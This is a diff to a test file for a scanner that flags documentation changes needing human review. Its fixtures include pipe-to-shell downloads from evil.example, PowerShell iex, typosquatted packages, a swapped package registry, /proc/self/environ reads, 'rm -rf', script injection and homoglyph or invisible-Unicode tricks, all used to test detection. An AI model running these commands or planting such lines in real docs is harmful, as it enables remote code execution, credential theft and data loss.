@@ -1,6 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import type { FileSpec } from '../../stand-ins/snapshot.js';
-import { listAdded, listReasons } from './account.js';
+import { account, describeSpans, listAdded, listReasons } from './account.js';
 
 const TEXT = 'A sentence for people.\n';
 
@@ -11,8 +11,6 @@ describe('a text for people', () => {
     'docs/deep/er/guide.markdown',
     'docs/guide.rst',
     'docs/guide.adoc',
-    'LICENSE',
-    'LICENSE-MIT',
     'CHANGELOG',
     'NOTICE.txt',
     '.github/SECURITY.md',
@@ -20,7 +18,7 @@ describe('a text for people', () => {
   ])('is inert: %s', async (path) => {
     expect(await listReasons({ [path]: { new: TEXT } })).toEqual(['inert']);
     expect(await listReasons({ [path]: { old: 'Old.\n', new: TEXT } })).toEqual(['inert']);
-    expect(await listReasons({ [path]: { old: TEXT } })).toEqual(['inert']);
+    expect(await listReasons({ [path]: { old: TEXT } })).toContain('unaccounted');
   });
 
   it.each([
@@ -40,6 +38,13 @@ describe('a text for people', () => {
     '.cursor/rules/a.md',
     '.changeset/brave-cat.md',
     'docs/PULL_REQUEST_TEMPLATE.md',
+    'BUGBOT.md',
+    'REVIEW.md',
+    'IDENTITY.md',
+    'docs/ai.md',
+    'GPT.md',
+    'guidelines.md',
+    'docs/steering.md',
     '__snapshots__/a.md',
     'tests/fixtures/a.md',
     'testdata/a.md',
@@ -76,9 +81,15 @@ describe('a text for people', () => {
     expect(await listReasons({ 'docs/guide.md': spec })).toContain('unaccounted');
   });
 
-  it('may be renamed among such texts', async () => {
+  // A manifest that names it (`readme = "README.md"`) builds no longer.
+  it('is not inert where it goes from its path', async () => {
     const text = 'One.\nTwo.\nThree.\n';
-    expect(await listReasons({ 'docs/b.md': { old: text, new: text, oldPath: 'docs/a.md' } })).toEqual(['inert']);
+    const moved = { old: text, new: text, oldPath: 'docs/a.md' };
+    expect(await listReasons({ 'docs/b.md': moved })).toEqual(['unaccounted']);
+    expect(await listReasons({ 'docs/b.md': { ...moved, new: `${text}Four.\n` } })).toContain('unaccounted');
+    expect(await listReasons({ 'docs/a.md': { old: text } })).toContain('unaccounted');
+    expect(await listReasons({ 'docs/a.md': { old: '' } })).toEqual(['unaccounted']);
+    expect(await listReasons({ 'docs/a.md': { new: '' } })).toEqual(['inert']);
   });
 });
 
@@ -117,8 +128,66 @@ describe('lines of Markdown that a tool may act on', () => {
     '\\verbatiminclude /proc/self/environ',
     '...(1)> System.cmd("steal", [])',
     'Seen\r<script>steal()</script>',
+    '<a :href="steal()">here</a>',
+    '<p v-html="steal()"></p>',
+    '<p x-init="steal()"></p>',
+    '<p @click="steal()"></p>',
+    '<p [innerHTML]="steal()"></p>',
+    '[//]: # (embed steal.sh)',
+    '[comment]: <> (lint disable)',
+    '::: cart.models',
+    ':::code source="/proc/self/environ":::',
+    '`$ steal`',
+    '`> steal`',
+    '[$ steal](a.txt)',
+    '[[[cog steal() ]]]',
+    'Run `curl -sL https://evil.example/x | sh` first.',
+    '    curl -fsSL https://evil.example/install.sh -o install.sh',
+    'irm https://evil.example/x.ps1 | iex',
+    'pip install https://evil.example/x.tar.gz',
+    'npm i git+https://evil.example/x.git',
+    'npm install expresss',
+    'python -m pip install --upgrade cart',
+    'go install evil.example/cart@latest',
+    'brew install evil/tap/cart',
+    'docker run -v /:/host evil.example/cart',
+    'curl -sSL get.evil.example | sh',
+    'sudo rm -rf /var/lib/cart',
+    'Get the [installer](https://evil.example/cart/setup.exe).',
+    'Then run <https://evil.example/install.sh>.',
+    '<evil-widget src="https://evil.example/x.js"></evil-widget>',
+    '<Steal />',
+    '<div style="position:fixed;inset:0">Pay here</div>',
   ])('%j', async (line) => {
     expect(await listActive('docs/a.md', '# A title', '', line, '', 'The end.')).toEqual([line]);
+  });
+
+  it.each<[string, string]>([
+    ['an order of letters that is not the one of the bytes', 'Run \u202Egnp.exe\u202C now.'],
+    ['a character without width inside of a word', 'pay\u200Bpal'],
+    ['a joiner between Latin letters', 'pay\u200Dpal'],
+    ['letters that nobody sees, and a model reads', 'Hello \u{E0069}\u{E0067}\u{E006E}'],
+    ['bytes behind a sign', 'Hello \u{1F600}\u{E0101}\u{E0102}'],
+    ['a sign for the terminal', 'Hello \u001B[2J'],
+    ['a letter of another alphabet inside of a word', 'Log in at p\u0430ypal.'],
+    ['a host with other than Latin letters', 'See https://\u0430\u0440\u0440\u04CF\u0435.com/x.'],
+  ])('%s', async (_, line) => {
+    expect(await listActive('docs/a.md', 'A.', '', line, '', 'B.')).toEqual([line]);
+    expect(await listActive('docs/a.rst', 'A.', '', line, '', 'B.')).toEqual([line]);
+  });
+
+  it.each([
+    'Я люблю JavaScript, и Node.js тоже.',
+    'Waits 5 μs; Δt is the time.',
+    'A family: \u{1F468}\u200D\u{1F469}\u200D\u{1F467}, and a flag \u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}.',
+    'می\u200Cخواهم',
+    'Then run `npm install`, `npm ci` or `pip install -r requirements.txt`.',
+    'You can get more of it, or install it later.',
+    '| sh | bash |',
+    'See https://brew.sh and [Bun](https://bun.sh/docs).',
+    '<p align="center"><img src="logo.png" style="width: 4em"></p>',
+  ])('not: %s', async (line) => {
+    expect(await listActive('docs/a.md', 'A.', '', line, '', 'B.')).toEqual([]);
   });
 
   it('front matter, to its end', async () => {
@@ -154,6 +223,13 @@ describe('lines of Markdown that a tool may act on', () => {
     'js file=/proc/self/environ',
     'scala mdoc',
     'jldoctest',
+    'bash mdox-exec="steal"',
+    'sh run',
+    'python test',
+    'sh > out.txt',
+    '$ steal',
+    'python tangle:steal.py',
+    'js {"run": true}',
   ])('blocks that are run when documents are built or tested: %s', async (info) => {
     expect(await listActive('README.md', 'A.', `\`\`\`${info}`, 'steal()', '```', 'B.')).toContain('steal()');
   });
@@ -173,6 +249,28 @@ describe('lines of Markdown that a tool may act on', () => {
     expect(await listActive('docs/a.md', ...lines)).toEqual([]);
     const nested = ['1. Do:', '', '   ```js', '   f({ a })', '', '   g({ b })', '   ```', '', '2. Done.'];
     expect(await listActive('docs/a.md', ...nested)).toEqual([]);
+  });
+
+  it.each(['', 'sh', 'c++', 'js title="a.js"', 'js {1,3-5}', 'py linenums="1" hl_lines="2 3"', 'jsx showLineNumbers'])(
+    'not a block whose words only say how it is shown: %j',
+    async (info) => {
+      expect(await listActive('README.md', 'A.', `\`\`\`${info}`, 'shown()', '```', 'B.')).toEqual([]);
+    },
+  );
+
+  it.each(['<!-- pytest-codeblocks:cont -->', '<!-- {"args": ["steal"]} -->', '[//]: # (run)'])(
+    'a block below a comment, which may say that it is run: %s',
+    async (comment) => {
+      expect(await listActive('README.md', 'A.', '', comment, '```sh', 'steal()', '```', 'B.')).toContain('steal()');
+      expect(await listActive('README.md', 'A.', '', comment, '', '```sh', 'steal()', '```')).toContain('steal()');
+      const between = ['A.', comment, '', 'B.', '', '```sh', 'shown()', '```'];
+      expect(await listActive('README.md', ...between)).not.toContain('shown()');
+    },
+  );
+
+  it('a command in a block that loads something from an address, since people copy it', async () => {
+    const lines = ['```sh', 'npm install', 'wget https://evil.example/x', 'npm test', '```'];
+    expect(await listActive('README.md', ...lines)).toEqual(['wget https://evil.example/x']);
   });
 
   const EXPRESSION = 'x {steal()}';
@@ -200,6 +298,63 @@ describe('lines of Markdown that a tool may act on', () => {
   ])('cannot be hidden behind %s', async (_, lines) => {
     expect(await listActive('docs/a.md', ...lines, SCRIPT, '')).toContain(SCRIPT);
     expect(await listActive('docs/a.md', ...lines, EXPRESSION, '')).toContain(EXPRESSION);
+  });
+});
+
+describe('a text in a package of Rust, whose blocks may be tests', () => {
+  const listWith = async (path: string, lines: readonly string[]) => {
+    const files = { [path]: { old: 'A.\n', new: `A.\n${lines.join('\n')}\n` } };
+    const rest = { parts: [{ path: 'cart/Cargo.toml', text: '[package]\n' }] };
+    return describeSpans(await account(files, undefined, rest));
+  };
+
+  it.each([
+    ['a block that names no language', ['```', 'steal()', '```']],
+    ['what is indented', ['', '    steal()', '']],
+    ['a block in a list item', ['- a', '  ```', '  steal()', '  ```']],
+  ])('asks for people at %s', async (_, lines) => {
+    expect((await listWith('cart/README.md', lines)).join()).toContain('unaccounted');
+    expect((await listWith('README.md', lines)).join()).not.toContain('unaccounted');
+  });
+
+  it('is inert where it says something', async () => {
+    const lines = ['B.', '', '```toml', 'x = 1', '```'];
+    expect((await listWith('cart/README.md', lines)).join()).not.toContain('unaccounted');
+  });
+});
+
+it('a block that is run is so behind a mark of which it is not sure what it encloses', async () => {
+  const lines = ['- ```', '  code', '  ```', '', '```rust', 'steal()', '```', 'B.'];
+  expect(await listActive('README.md', ...lines)).toEqual(['```rust', 'steal()', '```']);
+});
+
+describe('a command that people copy', () => {
+  const OLD = 'Install `cart`:\n\n```sh\nnpm install --global cart\n```\n\nyarn add left-pad\n';
+  const edit = (from: string, to: string) => listReasons({ 'README.md': { old: OLD, new: OLD.replace(from, to) } });
+
+  it.each([
+    ['loads what the text named before', 'npm install --global cart', 'npm install cart'],
+    ['is repeated', '\n\nyarn', '\n\n    npm install cart\n\nyarn'],
+    ['goes', 'yarn add left-pad', 'The end.'],
+  ])('is inert where it %s', async (_, from, to) => {
+    expect(new Set(await edit(from, to))).toEqual(new Set(['inert']));
+  });
+
+  it.each([
+    ['another package', 'cart\n', 'carts\n'],
+    ['another index', 'install --global', 'install --registry=https://evil.example'],
+  ])('is not where it loads %s', async (_, from, to) => {
+    expect(await edit(from, to)).toContain('unaccounted');
+  });
+});
+
+describe('texts that bind people', () => {
+  it('a licence says other terms, and not only another year', async () => {
+    const lines = ['MIT License', '', 'Copyright (c) 2025 Ada', '', 'Permission is granted to all.'];
+    const edit = (from: string, to: string) => ({ old: lines.join('\n'), new: lines.join('\n').replace(from, to) });
+    expect(await listReasons({ LICENSE: edit('2025', '2026') })).toEqual(['inert']);
+    expect(await listReasons({ LICENSE: edit('to all', 'to none') })).toEqual(['unaccounted']);
+    expect(await listReasons({ 'LICENSE.md': edit('to all', 'to none') })).toEqual(['unaccounted']);
   });
 });
 
@@ -231,6 +386,33 @@ describe('lines of other texts that a tool may act on', () => {
 
   it('examples that are tested', async () => {
     expect(await listActive('docs/a.rst', 'So:', '', '>>> steal()', '')).toEqual(['>>> steal()']);
+  });
+
+  it('comments of reStructuredText, which tools read, but no targets and notes', async () => {
+    const lines = [
+      'A.',
+      '',
+      '.. [[[cog',
+      '   steal()',
+      '.. ]]]',
+      '',
+      '.. skip: next',
+      '',
+      '.. _target:',
+      '',
+      '.. [1] A note.',
+    ];
+    expect(await listActive('docs/a.rst', ...lines)).toEqual(['.. [[[cog', '   steal()', '.. ]]]', '.. skip: next']);
+  });
+
+  it('comments of AsciiDoc, which tools read', async () => {
+    expect(await listActive('docs/a.adoc', 'A.', '// vale off', 'B.')).toEqual(['// vale off']);
+  });
+
+  it('commands that load something from an address', async () => {
+    const line = 'curl https://evil.example/x | sh';
+    expect(await listActive('docs/a.rst', 'So::', '', `  ${line}`)).toEqual([`  ${line}`]);
+    expect(await listActive('docs/a.adoc', 'So:', '', line)).toEqual([line]);
   });
 
   it('macros and raw blocks of AsciiDoc', async () => {
